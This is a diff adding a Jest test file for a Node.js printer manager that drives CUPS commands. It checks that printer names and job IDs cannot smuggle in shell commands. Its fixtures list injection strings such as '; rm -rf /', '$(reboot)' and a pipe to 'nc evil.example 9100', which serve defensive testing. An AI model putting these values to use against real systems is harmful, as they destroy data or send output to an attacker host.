@@ -0,0 +1,184 @@
+const { EventEmitter } = require('events');
+
+jest.mock('child_process', () => ({ spawn: jest.fn() }));
+const { spawn } = require('child_process');
+const PrinterManager = require('../../lib/printerManager');
+
+const logger = { info: jest.fn(), warn: jest.fn(), error: jest.fn() };
+
+const HOSTILE_NAMES = [
+  'RONGTA_80mm; rm -rf /',
+  'RONGTA_80mm && reboot',
+  '$(reboot)',
+  '`reboot`',
+  'RONGTA_80mm | nc evil.example 9100',
+  '-h evil.example:631',
+  'RONGTA_80mm\nreboot',
+  '../../etc/passwd',
+  "RONGTA_80mm' -o 'raw"
+];
+
+// Fake child process answering each command with `outputs[command]`
+function mockCommands(outputs = {}) {
+  const calls = [];
+  spawn.mockImplementation((command, args, options) => {
+    const child = new EventEmitter();
+    child.stdout = new EventEmitter();
+    child.stderr = new EventEmitter();
+    const call = { command, args, options, input: undefined };
+    child.stdin = {
+      on: jest.fn(),
+      end: input => { call.input = input; }
+    };
+    calls.push(call);
+
+    setImmediate(() => {
+      child.stdout.emit('data', outputs[command] || '');
+      child.emit('close', 0, null);
+    });
+    return child;
+  });
+  return calls;
+}
+
+function createManager() {
+  const manager = new PrinterManager(logger, { printerAliases: {}, printers: [] });
+  manager.cupsAvailable = true;
+  manager.printers = [
+    { name: 'RONGTA_80mm', status: 'online', backend: 'cups', isDefault: true }
+  ];
+  manager.defaultPrinter = 'RONGTA_80mm';
+  return manager;
+}
+
+beforeEach(() => {
+  spawn.mockReset();
+});
+
+describe('PrinterManager CUPS commands', () => {
+  test('prints through lp with an argument list and the receipt on stdin', async () => {
+    const calls = mockCommands({ lp: 'request id is RONGTA_80mm-42 (0 file(s))\n' });
+    const manager = createManager();
+
+    const result = await manager.print('\x1B@Buñuelo\n', 'RONGTA_80mm');
+
+    expect(result.jobId).toBe('42');
+    expect(calls).toHaveLength(1);
+    expect(calls[0].command).toBe('lp');
+    expect(calls[0].args).toEqual(['-d', 'RONGTA_80mm']);
+    expect(calls[0].options.shell).toBeUndefined();
+    expect(calls[0].options.env.LC_ALL).toBe('C');
+    expect(Buffer.isBuffer(calls[0].input)).toBe(true);
+    expect(calls[0].input.includes(Buffer.from('Bu\xA4uelo', 'latin1'))).toBe(true);
+  });
+
+  test.each(HOSTILE_NAMES)('refuses to print to %j', async name => {
+    const calls = mockCommands();
+    const manager = createManager();
+
+    await expect(manager.print('test\n', name)).rejects.toThrow(/not found|Unknown printer/);
+    expect(calls).toHaveLength(0);
+  });
+
+  test.each(HOSTILE_NAMES)('rejects %j as a requested printer', name => {
+    const manager = createManager();
+    expect(() => manager.resolvePrinterName(name)).toThrow(/Unknown printer/);
+  });
+
+  test.each(HOSTILE_NAMES)('does not read options for %j', async name => {
+    const calls = mockCommands();
+    const manager = createManager();
+
+    await expect(manager.getPrinterOptions(name)).resolves.toEqual({});
+    expect(calls).toHaveLength(0);
+  });
+
+  test('refuses a known queue whose name would read as an option', async () => {
+    const calls = mockCommands();
+    const manager = createManager();
+    manager.printers.push({ name: '-oraw', status: 'online', backend: 'cups' });
+
+    await expect(manager.print('test\n', '-oraw')).rejects.toThrow(/Unknown printer/);
+    expect(calls).toHaveLength(0);
+  });
+
+  test('skips queues with invalid names reported by lpstat', async () => {
+    mockCommands({ lpstat: 'printer RONGTA_80mm is idle.  enabled since now\nprinter -oraw is idle.  enabled since now\n' });
+    const manager = createManager();
+
+    const printers = await manager.getCupsPrinters();
+
+    expect(printers.map(printer => printer.name)).toEqual(['RONGTA_80mm']);
+  });
+});
+
+describe('PrinterManager job IDs', () => {
+  const LPQ = [
+    'Rank    Owner   Job     File(s)                         Total Size',
+    'active  pos     42      (stdin)                         1024 bytes',
+    '1st     pos     43      (stdin)                         1024 bytes',
+    ''
+  ].join('\n');
+
+  test.each(['42; reboot', '$(reboot)', '42 && rm -rf /', '-a', '', null, '4'.repeat(11)])(
+    'refuses to cancel job %j', async jobId => {
+      const calls = mockCommands({ lpq: LPQ });
+      const manager = createManager();
+
+      await expect(manager.cancelPrintJob(jobId)).resolves.toBe(false);
+      expect(calls).toHaveLength(0);
+    }
+  );
+
+  test('cancels a queued job by its number', async () => {
+    const calls = mockCommands({ lpq: LPQ });
+    const manager = createManager();
+
+    await expect(manager.cancelPrintJob('43')).resolves.toBe(true);
+    expect(calls.map(call => [call.command, call.args])).toEqual([
+      ['lpq', ['-a']],
+      ['cancel', ['43']]
+    ]);
+  });
+
+  test('does not cancel jobs that are not in the queue', async () => {
+    const calls = mockCommands({ lpq: LPQ });
+    const manager = createManager();
+
+    await expect(manager.cancelPrintJob('7')).resolves.toBe(false);
+    expect(calls.map(call => call.command)).toEqual(['lpq']);
+  });
+
+  test('reports job states from lpq', async () => {
+    mockCommands({ lpq: LPQ });
+    const manager = createManager();
+
+    await expect(manager.getPrintJobStatus('42')).resolves.toBe('printing');
+    await expect(manager.getPrintJobStatus('43')).resolves.toBe('queued');
+    await expect(manager.getPrintJobStatus('7')).resolves.toBe('completed');
+  });
+
+  test('does not look up invalid job IDs', async () => {
+    const calls = mockCommands({ lpq: LPQ });
+    const manager = createManager();
+
+    await expect(manager.getPrintJobStatus('42; reboot')).resolves.toBe('unknown');
+    expect(calls).toHaveLength(0);
+  });
+});
+
+describe('PrinterManager direct printers', () => {
+  test('does not report a printer whose status query failed as online', async () => {
+    const manager = new PrinterManager(logger, {
+      printerAliases: {},
+      printers: [{ name: 'rongta-usb', backend: 'device', path: '/dev/usb/lp0' }]
+    });
+    const backend = manager.backends.get('rongta-usb');
+    jest.spyOn(backend, 'getStatus').mockResolvedValue('online');
+    jest.spyOn(backend, 'getHardwareStatus').mockRejectedValue(Object.assign(new Error('EIO: i/o error, read'), { code: 'EIO' }));
+
+    const [printer] = await manager.getDirectPrinters();
+
+    expect(printer).toMatchObject({ status: 'error', statusReason: 'status query failed', hardware: null });
+  });
+});